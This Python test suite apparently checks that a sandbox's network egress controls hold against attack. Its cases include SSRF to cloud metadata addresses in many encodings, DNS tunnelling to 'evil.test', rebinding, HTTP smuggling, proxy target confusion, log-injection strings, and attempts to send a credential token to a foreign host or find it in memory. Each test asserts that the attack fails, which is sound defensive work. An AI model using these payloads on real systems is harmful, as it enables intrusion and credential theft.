#!/usr/bin/env python3
"""Ways past the rules of a box's network, each a case; see README. The boxes are root's and another account's, in a
network that the test makes, so that it can serve any address."""

import base64
import contextlib
import json
import os
import shlex
import shutil
import socket
import sys
import threading
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [HERE, os.path.join(HERE, "..", "e2e")]
import test_egress  # noqa: E402
import test_egress_broker as broker  # noqa: E402
import test_egress_edge as edge  # noqa: E402
from attack_box import PACKETS, PRELUDE, failed  # noqa: E402
from lib import egressworld, hostbox, process  # noqa: E402
from lib.edgeserver import HEAD, SMUGGLED, Request, read_body, read_head  # noqa: E402
from lib.egressworld import METADATA, OTHER, PRIVATE, PUBLIC, Server, tls, web  # noqa: E402
from lib.host import BUILD, PATIENCE  # noqa: E402
from lib.tap import equal, skip_all  # noqa: E402

VALUE = test_egress.VALUE
# reach(): what a server answers, directly or by a proxy. A connection that is accepted and reset has reached nobody.
NET = PRELUDE + r"""
import ssl, struct
socket.setdefaulttimeout(%g)
def answered(s, data=b'GET / HTTP/1.0\r\n\r\n'):
    s.sendall(data)
    got = s.recv(4096)
    if not got: raise OSError(errno.EPIPE, '')
    return got
def reach(host, port, **more):
    with socket.create_connection((host, port)) as s: return answered(s, **more)
def connect(target, first='CONNECT %%s HTTP/1.1\r\n\r\n'):
    with socket.create_connection(('127.0.0.1', 3128)) as s:
        got = answered(s, (first %% target).encode('latin-1'))
        if b' 200 ' not in got.split(b'\r\n')[0]: raise OSError(errno.EACCES, '')
        return answered(s)
def socks(target, port):
    with socket.create_connection(('127.0.0.1', 1080)) as s:
        answered(s, b'\5\1\0')
        try: to = b'\1' + socket.inet_aton(target) if target.count('.') == 3 else b''
        except OSError: to = b''
        to = to or b'\3' + bytes([len(target)]) + target.encode()
        if answered(s, b'\5\1\0' + to + struct.pack('>H', port))[1]: raise OSError(errno.EACCES, '')
        return answered(s)
def every_way(target, port):
    attack('direct', lambda: reach(target, port))
    attack('CONNECT', lambda: connect('%%s:%%d' %% (target, port)))
    attack('SOCKS', lambda: socks(target, port))
""" % PATIENCE


class Recorder:
    """A handler that answers requests with their own headers and keeps all that it has read."""

    def __init__(self):
        self.requests, self.bytes = [], b""

    def __call__(self, s):
        with contextlib.suppress(ValueError, IndexError), s.makefile("rwb") as f:
            while True:
                lines = read_head(f)
                if lines is None:
                    return
                r = Request(lines, b"")
                r.body = read_body(f, r.fields)
                self.requests.append(r)
                self.bytes += "\n".join(lines).encode("latin-1") + r.body
                text = "\n".join(lines).encode("latin-1")
                f.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(text), text))
                f.flush()
                if r.fields.get("connection") == "close":
                    return


class World(test_egress.World):
    """A user of the handrail command, and servers at the addresses of the test's network."""

    def __enter__(self):
        test_egress.World.__enter__(self)
        self.names.default, self.victims = None, []
        self.names.add(good_test=PUBLIC, other_test=OTHER, api_test=PUBLIC)
        return self

    def __exit__(self, *unused):
        for v in self.victims:
            v.close()
        test_egress.World.__exit__(self, *unused)

    def victim(self, address, port, handler=web(b"reached"), context=None):
        self.victims.append(Server(address, port, handler, context))
        return self.victims[-1]

    def box_with(self, **policy):
        self("down", "-q")
        self.up("sandbox.network=" + json.dumps(dict(dnsServers=["127.0.0.1:%d" % self.names.port], **policy)))

    def python(self, code):
        return self.ok("run", "/usr/bin/python3 -c " + shlex.quote(NET + code)).splitlines()

    def attacks(self, code, count):
        return failed(self.python(code), count)

    def reached(self):
        """The victims that have had a connection."""
        return [(v.address, v.port) for v in self.victims if v.count]

    def secret(self, **more):
        """A box with a credential for api.test, over TLS; the recorders of that host and of a foreign one."""
        authority, context = tls(self.path("tmp"), "api.test", "good.test", "other.test")
        os.chmod(authority.pem, 0o644)
        self.env["SSL_CERT_FILE"] = authority.pem
        own, foreign = Recorder(), Recorder()
        for address, recorder in ((PUBLIC, own), (OTHER, foreign)):
            self.victim(address, 443, recorder, context)
            self.victim(address, 80, recorder)
        self.ok("secret", "set", "key", input=VALUE)
        self.box_with(**dict(dict(allowOut=["other.test"], rules={"api.test": [{}]},
                                  credentials={"TOKEN": {"secret": "key", "hosts": ["api.test"]}}), **more))
        return own, foreign


def forms(value):
    """Texts by which somebody could have the value."""
    raw = value.encode()
    # 3 bytes fewer at the ends, whatever stands before and behind
    return [raw, raw[::-1], raw.hex().encode(), urllib.parse.quote(value).encode()] + [
        base64.b64encode(b"x" * n + raw)[8:-8] for n in range(3)]


def metadata(h):
    """Private and metadata addresses, in every notation and by every way."""
    for address in (METADATA, PRIVATE):
        h.victim(address, 80)
    for policy in (dict(allowOut=["good.test"]), dict(allowInternetAccess=True)):
        h.box_with(**policy)
        h.attacks(r"""
for target in (%r, %r, '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '169.254.169.254.',
               'metadata.google.internal'):
    every_way(target, 80)
for target in ('[::ffff:169.254.169.254]:80', '[fd00:ec2::254]:80', '169.254.169.254:80@good.test:80',
               'good.test:80@169.254.169.254:80', '169.254.169.254%%00.good.test:80'):
    attack(target, lambda: connect(target))
""" % (METADATA, PRIVATE), 29)
    equal(h.reached(), [])


def packets(h):
    """Sockets that need no connection, and addresses of IPv6."""
    h.box_with(allowInternetAccess=True)
    h.attacks(PACKETS, 9)


def tunnels(h):
    """Data in questions, to any server and of any type; datagrams to other ports."""
    udp = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)]
    for s, to in zip(udp, ((PUBLIC, 53), (PRIVATE, 53), (PUBLIC, 443))):
        s.bind(to)
        s.setblocking(False)
    h.victim(PUBLIC, 53)
    h.victim(PUBLIC, 853)
    h.box_with(allowOut=["good.test", "*.good.test"])
    h.attacks(r"""
def question(kind, name, at):
    q = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join(
        bytes([len(part)]) + part.encode() for part in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(q, (at, 53))
        return s.recv(512)
for kind in (1, 5, 10, 12, 15, 16, 28, 33, 65, 99, 255):
    for at in ('198.18.0.1', '8.8.8.8', %r, %r):
        for name in ('data' * 15 + '.evil.test', 'data' * 15 + '.good.test'): question(kind, name, at)
for i in range(50):
    try: socket.create_connection(('data%%d.evil.test' %% i, 443)).recv(1)
    except OSError: pass
def send(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(to)
        for i in range(2): s.send(b'x')
        return s.recv(1)
attack('QUIC', lambda: send((%r, 443)))
attack('DNS over TLS', lambda: reach(%r, 853))
attack('long', lambda: socket.gethostbyname('.'.join(['x' * 63] * 5)))
""" % (PUBLIC, PRIVATE, PUBLIC, PUBLIC), 3)
    equal(h.names.asked, [], "no question left the machine")
    for s in udp:
        with contextlib.closing(s), contextlib.suppress(BlockingIOError):
            equal(s.recv(512), None, "a datagram")
    equal(h.reached(), [])


def rebinding(h):
    """Allowed names that lead to private addresses, at once or later."""
    h.victim("0.0.0.0", 8080)  # at all addresses of the machine
    h.box_with(allowOut=["*.evil.test"], ports=[8080])
    hosts = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "198.18.0.1", "198.18.0.77", "100.64.0.1", "172.16.0.1",
             "192.168.0.1", "192.0.0.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", PRIVATE, METADATA, "::1", "::",
             "fe80::1", "fd00::1", "::ffff:127.0.0.1", "::ffff:10.1.2.3", "64:ff9b::7f00:1", "2002:7f00:1::",
             "::127.0.0.1", PRIVATE + " " + METADATA + " ::1"]
    for i, addresses in enumerate(hosts):
        h.names.add(**{"n%d_evil_test" % i: addresses})
    h.attacks("for i in range(%d): every_way('n%%d.evil.test' %% i, 8080)" % len(hosts), 3 * len(hosts))
    h.names.add(later_evil_test=PUBLIC)
    equal("reached" in h.python("print(reach('later.evil.test', 8080))")[0], True)
    equal(h.victims[0].count, 1)
    h.names.add(later_evil_test="127.0.0.1")
    h.attacks("for i in range(10): every_way('later.evil.test', 8080)", 30)
    equal(h.victims[0].count, 1)


def unlike(h):
    """A name in the greeting or in the request that is not the one of the connection."""
    own, foreign = h.secret(rules={"api.test": [{"paths": ["/ok"]}], "good.test": [{"paths": ["/ok"]}]})
    h.attacks(r"""
context = ssl._create_unverified_context()
def ask(name, sni, host, port=443, target='/ok'):
    with socket.create_connection((name, port)) as s:
        if sni is not None or port == 443: s = context.wrap_socket(s, server_hostname=sni)
        got = answered(s, ('GET %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, host)).encode())
        if b' 200 ' not in got.split(b'\r\n')[0]: raise OSError(errno.EACCES, '')
        return got
attack('greeting', lambda: ask('other.test', 'refused.test', 'refused.test'))
attack('greeting of another', lambda: ask('other.test', 'api.test', 'api.test'))
attack('host', lambda: ask('api.test', 'api.test', 'good.test'))
attack('host and greeting', lambda: ask('api.test', 'good.test', 'good.test'))
attack('greeting of an inspected host', lambda: ask('api.test', 'good.test', 'api.test'))
attack('target', lambda: ask('api.test', 'api.test', 'api.test', target='https://good.test/ok'))
attack('port', lambda: ask('api.test', 'api.test', 'api.test:8443'))
attack('user', lambda: ask('api.test', 'api.test', 'api.test@good.test'))
""", 8)
    equal((own.requests, foreign.requests), ([], []))


def smuggling(h):
    """Bytes that two readers could take for different requests."""
    recorder = Recorder()
    h.victim(PUBLIC, 80, recorder)
    h.box_with(rules={"api.test": [{"paths": ["/ok"], "ports": [80]}]})
    for ways in ("socket.create_connection(('api.test', 80))", "proxied()"):
        h.python(r"""
def proxied():
    s = socket.create_connection(('127.0.0.1', 3128))
    s.sendall(b'CONNECT api.test:80 HTTP/1.1\r\n\r\n')
    while not s.recv(4096).endswith(b'\r\n\r\n'): pass
    return s
for data in %r:
    with %s as s:
        try:
            s.sendall((data + 'GET /end HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n').encode('latin-1'))
            while s.recv(65536): pass
        except OSError: pass
""" % (SMUGGLED, ways))
    equal(set((r.target, r.fields["host"]) for r in recorder.requests), {("/ok", "api.test")})
    equal(h.python("print(reach('api.test', 80, data=%r)[:12])" % (
        HEAD + "Content-Length: 0\r\n\r\n").encode()), ["b'HTTP/1.1 200'"])


def ports(h):
    """Ports that no rule names, by the proxies and by targets that two readers could take apart differently."""
    for port in (22, 25, 8443):
        h.victim(PUBLIC, port)
    h.victim(OTHER, 443)
    h.box_with(allowOut=["good.test"])
    h.attacks(r"""
for port in (22, 25, 8443):
    every_way('good.test', port)
    every_way(%r, port)
for target in ('good.test:22', 'good.test:0443:22', 'good.test:443@good.test:22', 'good.test:22#:443', 'good.test:+22',
               'good.test:65558', 'good.test:443 other.test:443', 'other.test:443\tgood.test:443', 'good.test\0:22',
               'good.test.:22', 'other.test:443?good.test:443', 'x@good.test:22', '[good.test]:22', ':22', '22'):
    attack(ascii(target), lambda: connect(target))
for first in ('CONNECT good.test:22 HTTP/1.1\r\nHost: good.test:443\r\n\r\n%%.0s', 'connect %%s HTTP/1.1\r\n\r\n',
              'CONNECT good.test:443\r\n other.test:443 HTTP/1.1\r\n\r\n%%.0s'):
    attack(ascii(first), lambda: connect('good.test:22', first))
""" % PUBLIC, 36)
    equal(h.reached(), [])


def edits(h):
    """A command that changes the resolver, names of hosts, the trust store or the route gains nothing."""
    h.victim(OTHER, 80)
    h.victim(OTHER, 53)
    h.victim(PUBLIC, 80)
    h.box_with(allowOut=["good.test"])
    h.attacks(r"""
import subprocess
def command(*words):
    done = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    if done.returncode: raise OSError(errno.EPERM, '')
    return done.stdout
for words in (('route', 'del', 'local', '0.0.0.0/0', 'dev', 'lo'), ('route', 'add', 'default', 'dev', 'lo'),
              ('link', 'add', 'x', 'type', 'dummy'), ('link', 'set', 'lo', 'down'),
              ('address', 'add', '10.1.2.3/32', 'dev', 'lo'), ('rule', 'add', 'from', 'all', 'lookup', 'main')):
    attack(words[0], lambda: command('ip', *words))
def put(path, text):
    with open(path, 'w') as f: f.write(text)
for path in ('/etc/ssl/certs/ca-certificates.crt', '/etc/ssl/handrail-ca.crt'):
    attack(path, lambda: put(path, 'x'))
    attack(path, lambda: os.unlink(path))
for path, text in (('/etc/resolv.conf', 'nameserver %s\n'), ('/etc/hosts', '%s good.test other.test\n')):
    try: put(path, text)
    except OSError: pass
attack('hosts', lambda: reach('other.test', 80))
attack('resolver', lambda: reach(%r, 53))
""" % (OTHER, OTHER, OTHER), 12)
    equal(h.reached(), [])
    equal(h.ok("run", "env -i curl -s --max-time 60 --resolve good.test:80:1.2.3.4 http://good.test/; "
               "tail -1 /etc/ssl/certs/ca-certificates.crt").splitlines()[-1], "-----END CERTIFICATE-----")
    equal(h.reached(), [])


def placeholder(h):
    """The placeholder, sent to a foreign host and by ways that lead to one."""
    for more in ({}, dict(rules={"api.test": [{}], "other.test": [{}]})):
        own, foreign = h.secret(**more)
        h.python(r"""
import base64
token = os.environ['TOKEN']
context = ssl._create_unverified_context()
def ask(name, host, target, fields, body=b'', port=443):
    try:
        with socket.create_connection((name, port)) as s:
            if port == 443: s = context.wrap_socket(s, server_hostname=name)
            s.sendall(('POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n%s\r\n' % (
                target, host, len(body), fields)).encode() + body)
            while s.recv(65536): pass
    except OSError: pass
basic = 'Basic ' + base64.b64encode(('x:' + token).encode()).decode()
for name, host in (('other.test', 'other.test'), ('other.test', 'api.test'), ('api.test', 'other.test')):
    for port in (443, 80):
        for field in ('Authorization: Bearer ' + token, 'Authorization: ' + basic, 'Cookie: a=' + token,
                      'X-Api-Key: ' + token, 'Host: api.test', 'X-Forwarded-Host: api.test', 'Private-Token: ' + token):
            ask(name, host, '/?key=' + token, field + '\r\n', token.encode(), port)
ask('api.test', 'api.test', '/', 'Authorization: Bearer ' + token + '\r\n', port=80)
""")
        equal([f for f in forms(VALUE) if f in foreign.bytes], [])
        equal(b"ph_" in foreign.bytes, True, "the requests arrived")
        given = [r for r in own.requests if any(f in "\n".join(r.lines).encode("latin-1") for f in forms(VALUE))]
        equal([r.lines for r in given if r.fields["host"] != "api.test"], [])
        while h.victims:
            h.victims.pop().close()
        shutil.rmtree(h.path("tmp"))
        h.directory("tmp")


def log(h):
    """Names, paths and greetings with line ends, quotes and control characters of terminals."""
    recorder = Recorder()
    h.victim(PUBLIC, 80, recorder)
    h.box_with(allowOut=["good.test"], rules={"api.test": [{"paths": ["/ok"], "ports": [80]}]})
    h.python(r"""
odd = ['\nFORGED', '\r\nFORGED', '\x1b]0;FORGED\x07', '"}\n{"verdict":"allow","name":"FORGED', '\x9b31mFORGED',
       '\u2028FORGED', '\0FORGED', '\\nFORGED', '%0aFORGED', '%1b[31mFORGED', "'\"\\"]
def ask(name, port, data):
    try:
        with socket.create_connection((name, port)) as s:
            s.sendall(data)
            while s.recv(65536): pass
    except OSError: pass
for text in odd:
    raw = text.encode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + bytes([len(raw)]) + raw + b'\4test\0\0\1\0\1',
                 ('198.18.0.1', 53))
        s.recv(512)
    for line in (b'GET /%s HTTP/1.1', b'%s / HTTP/1.1', b'GET / HTTP/1.1\r\nX: %s',
                 b'GET / HTTP/1.1\r\nUser-Agent: %s'):
        ask('api.test', 80, line % raw + b'\r\nHost: api.test\r\nConnection: close\r\n\r\n')
    ask('api.test', 80, b'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % raw)
    ask('127.0.0.1', 3128, b'CONNECT %s:443 HTTP/1.1\r\n\r\n' % raw)
    ask('127.0.0.1', 1080, b'\5\1\0\5\1\0\3' + bytes([len(raw)]) + raw + b'\1\xbb')
    name = b'%s.test' % raw
    sni = struct.pack('>HBH', len(name) + 3, 0, len(name)) + name
    ext = struct.pack('>HH', 0, len(sni)) + sni
    hello = b'\3\3' + bytes(32) + b'\0\0\2\x13\1\1\0' + struct.pack('>H', len(ext)) + ext
    hello = b'\1' + struct.pack('>I', len(hello))[1:] + hello
    ask('good.test', 443, b'\x16\3\1' + struct.pack('>H', len(hello)) + hello)
""")
    equal(recorder.requests, [])
    shown = h.ok("net", "log")
    for text in (shown, h.ok("run", "cat /run/handrail/network/refused"), h.ok("net", "log", "--json")):
        equal([line for line in text.splitlines() if line.startswith(("FORGED", '{"verdict":"allow"'))], [])
        equal(sorted(c for c in set(text) if not c.isprintable() and c != "\n"), [])
    events = [json.loads(line) for line in h.ok("net", "log", "--json").splitlines()]
    equal((len(events) > 10, [e for e in events if e["verdict"] == "allow" and e["kind"] == "http"]), (True, []))


def loopback(h):
    """Services of the machine on its loopback interface, by every name of it."""
    service = h.victim("127.0.0.1", 0)
    h.names.add(loop_test="127.0.0.1")
    for policy in (dict(allowOut=["good.test:%d" % service.port, "loop.test:%d" % service.port]),
                   dict(allowInternetAccess=True, ports=[service.port])):
        h.box_with(**policy)
        h.attacks(r"""
for target in ('127.0.0.1', '127.1.2.3', '127.1', '0.0.0.0', '0', 'localhost', '2130706433', '0x7f000001',
               'localhost.localdomain', 'loop.test', '198.18.0.1', '198.18.255.255'):
    every_way(target, %d)
for target in ('[::1]', '[::ffff:127.0.0.1]', '[::]'):
    attack(target, lambda: connect('%%s:%d' %% target))
""" % (service.port, service.port), 39)
    equal(h.reached(), [])


def key(h):
    """The real key is in 0 of all bytes that the box can read: memory, files, environment, answers."""
    shared = h.directory("shared")
    os.chmod(shared, 0o777)
    shutil.copy(os.path.join(HERE, "..", "e2e", "lib", "attacker.py"), shared)
    h.env["SANDBOX_VOLUMES"] = "%s:/shared:rw" % shared
    own, _ = h.secret()
    curl = "curl -s --max-time 60 -H \"Authorization: Bearer $TOKEN\" https://api.test/"
    h.ok("run", "for i in 1 2 3; do %s >>/tmp/answers; done; %s -D - -o /dev/null >>/tmp/answers; cat /tmp/answers" % (
        curl, curl))
    equal(len([r for r in own.requests if VALUE in r.fields["authorization"]]), 4, "the key was used")
    # a client that holds its connection, an answer and the variable while it is looked at
    h.ok("run", "python3 -c 'import http.client, os, sys, time\n"
         "c = http.client.HTTPSConnection(\"api.test\")\n"
         "c.request(\"GET\", \"/\", headers={\"Authorization\": os.environ[\"TOKEN\"]})\n"
         "got = c.getresponse().read()\nopen(\"/tmp/held\", \"wb\").write(got)\ntime.sleep(1000)' >/dev/null 2>&1 & "
         "until test -s /tmp/held; do sleep 0.1; done")
    done = json.loads(h.ok("run", "/usr/bin/python3 /shared/attacker.py /shared/found 1 /dev/shm /etc /home /opt /root "
                           "/run /srv /tmp /usr/local /var /workspace"))
    with open(os.path.join(shared, "found"), "rb") as f:
        found = f.read()
    equal([f for f in forms(VALUE) if f in found], [])
    equal((b"ph_" in found, len(done["memory"]) > 0, len(found) > 1 << 20), (True, True, True), done["memory"])
    for words in (("run", "cat /tmp/answers; env; set"), ("logs",), ("config",), ("net", "log"), ("inspect",)):
        text = h.ok(*words).encode()
        equal([f for f in forms(VALUE) if f in text], [], words)


CASES = [metadata, packets, tunnels, rebinding, unlike, smuggling, ports, edits, placeholder, log, loopback, key]
# The tests of the broker and of its nginx that are attacks, too.
BROKER = [broker.addresses, broker.own_addresses, broker.own_loopback, broker.greetings, broker.by_address,
          broker.proxies, broker.questions, broker.many_names]
EDGE = [edge.methods_and_paths, edge.other_hosts, edge.smuggled, edge.placeholders, edge.scrubbed,
        edge.scrubbed_headers]


def others(tap):
    for case in BROKER + EDGE:
        if len(sys.argv) > 1 and case.__name__ not in sys.argv[1:]:
            continue
        for uid in (0, broker.UID) if case in BROKER else (0,):
            name = case.__name__ + (", another account" if uid else "")
            tap.run(name, *((broker.alone, case, uid) if case in BROKER else (case,)))


def main():
    if os.geteuid() != 0:
        skip_all("needs root, which can give its boxes and those of another account one network")
    if not os.access(os.path.join(BUILD, "handrail-egress"), os.X_OK):
        skip_all("handrail-egress is not built: apt-get install libc-ares-dev libssl-dev, and configure again")
    process.become_subreaper()
    egressworld.enter()
    return hostbox.run(CASES, made=World, then=others)


if __name__ == "__main__":
    sys.exit(main())
